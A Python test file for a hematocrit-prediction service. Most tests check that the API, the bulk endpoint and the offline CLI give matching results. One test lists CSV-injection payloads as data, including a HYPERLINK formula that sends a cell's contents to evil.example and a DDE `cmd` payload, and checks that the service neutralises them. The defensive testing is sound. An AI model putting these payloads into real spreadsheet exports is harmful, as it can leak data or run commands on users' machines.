"""One mapper for every surface: the batch API's results and `hct score`'s file for the same
export carry the same columns and the same values, and the REST body matches them."""

import csv
import io

from fastapi.testclient import TestClient

from service.api.app import create_app
from service.offline.local import score_file
from service.prediction.mapper import RESULT_COLUMNS
from tests.service.api.test_batches_api import _wait, export_csv


def test_batch_results_and_hct_score_have_identical_columns_and_values(settings, tmp_path):
    # The same batch composition on both paths (one chunk of up to 64 samples).
    settings = settings.model_copy(update={"job_chunk_size": 64})
    export = tmp_path / "export.csv"
    export.write_bytes(export_csv(30, bad=(4, 17)))
    with TestClient(create_app(settings)) as client:
        job_id = client.post("/v1/batches", files={
            "file": ("export.csv", export.read_bytes(), "text/csv")}).json()["id"]
        assert _wait(client, job_id)["status"] == "done"
        api_text = client.get(f"/v1/batches/{job_id}/results").text
        first_id = next(r for r in csv.DictReader(io.StringIO(api_text))
                        if r["status"] == "done")["prediction_id"]
        body = client.get(f"/v1/predictions/{first_id}").json()
    out = tmp_path / "results.csv"
    assert score_file(export, out, settings, progress=False) == (28, 2)

    api_rows = list(csv.DictReader(io.StringIO(api_text)))
    cli_rows = list(csv.DictReader(out.open()))
    assert api_text.splitlines()[0] == out.read_text().splitlines()[0]  # the same header
    assert tuple(api_rows[0]) == RESULT_COLUMNS
    assert len(api_rows) == len(cli_rows) == 30
    for a, c in zip(api_rows, cli_rows, strict=True):
        assert a["prediction_id"] or a["status"] == "error"  # stored by the API only
        assert c["prediction_id"] == ""  # `hct score` stores nothing
        assert {k: v for k, v in a.items() if k != "prediction_id"} == \
               {k: v for k, v in c.items() if k != "prediction_id"}
    stored = next(r for r in api_rows if r["prediction_id"] == first_id)
    assert float(stored["hematocrit_pct"]) == round(body["hematocrit_pct"], 4)
    assert float(stored["cbc_indices"]) == round(body["baselines"]["cbc_indices"], 4)


def test_csv_results_neutralise_spreadsheet_formulas(client):
    """Ids starting with = + - @ tab or CR leave as text, never as a formula (OWASP)."""
    from service.prediction.mapper import csv_lines, error_row

    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1)", "\tx", "\rx"]
    rows = [error_row(i, pid, "s", "validation", "bad") for i, pid in enumerate(hostile)]
    text = "".join(csv_lines(rows))
    read = [r["patient_id"] for r in csv.DictReader(io.StringIO(text))]
    assert read == ["'" + h for h in hostile]


def test_the_same_cells_give_the_same_value_on_every_path_whatever_shares_the_call(settings,
                                                                                  tmp_path):
    # The shipped bundle (it carries an int8 variant) under the default precision: one sample
    # scored alone, inside a bulk request, inside a batch job and by `hct score`, each time
    # beside different other samples, gives one value.
    import json

    from service.settings import DEFAULT_MODEL_DIR

    shipped = settings.model_copy(update={"model_dir": DEFAULT_MODEL_DIR,
                                          "job_chunk_size": 64})
    data = export_csv(30, cells=400)
    cells: dict[str, dict] = {}
    for row in csv.DictReader(io.StringIO(data.decode())):
        body = cells.setdefault(row["sample_id"], {"patient_id": row["patient_id"],
                                                   "sample_id": row["sample_id"],
                                                   "volume_fl": [], "hemoglobin_pg": []})
        body["volume_fl"].append(float(row["volume_fl"]))
        body["hemoglobin_pg"].append(float(row["hemoglobin_pg"]))
    bodies = list(cells.values())
    mine = bodies[7]
    export = tmp_path / "export.csv"
    export.write_bytes(data)
    with TestClient(create_app(shipped)) as client:
        alone = client.post("/v1/predictions", content=json.dumps(mine),
                            headers={"content-type": "application/json"}).json()
        crowd = [*[b for b in bodies if b is not mine][:20], mine]
        bulk = client.post("/v1/predictions/bulk", json={"samples": crowd}).json()["items"][-1]
        job_id = client.post("/v1/batches", files={
            "file": ("export.csv", data, "text/csv")}).json()["id"]
        assert _wait(client, job_id)["status"] == "done"
        job = next(r for r in client.get(f"/v1/batches/{job_id}/results?format=json").json()
                   if r["sample_id"] == mine["sample_id"])
    out = tmp_path / "results.csv"
    score_file(export, out, shipped, progress=False, batch_size=64)
    offline = next(r for r in csv.DictReader(out.open()) if r["sample_id"] == mine["sample_id"])
    value = alone["hematocrit_pct"]
    assert alone["model"]["onnx_sha256"] == bulk["model"]["onnx_sha256"] == job["onnx_sha256"]
    for other in (bulk["hematocrit_pct"], job["hematocrit_pct"],
                  float(offline["hematocrit_pct"])):
        assert abs(other - value) <= 1e-4
    low = alone["hematocrit_interval_pct"]["lower"]
    assert abs(bulk["hematocrit_interval_pct"]["lower"] - low) <= 1e-4


def test_bulk_arrow_answers_and_parquet_results_share_one_schema():
    # Every registered baseline is a float column in both, never a string holding numbers.
    import pyarrow as pa

    from model.baselines import BASELINE_NAMES
    from service.api.arrow_codec import results_stream
    from service.prediction.mapper import error_row
    from service.prediction.result_schema import RESULT_SCHEMA

    stream = results_stream([{**error_row(0, "P", "S", "validation", "bad"),
                              "error_field": None}])
    schema = pa.ipc.open_stream(stream).schema
    assert [(f.name, f.type) for f in schema if f.name != "error_field"] == \
           [(f.name, f.type) for f in RESULT_SCHEMA]
    assert all(RESULT_SCHEMA.field(name).type == pa.float64() for name in BASELINE_NAMES)
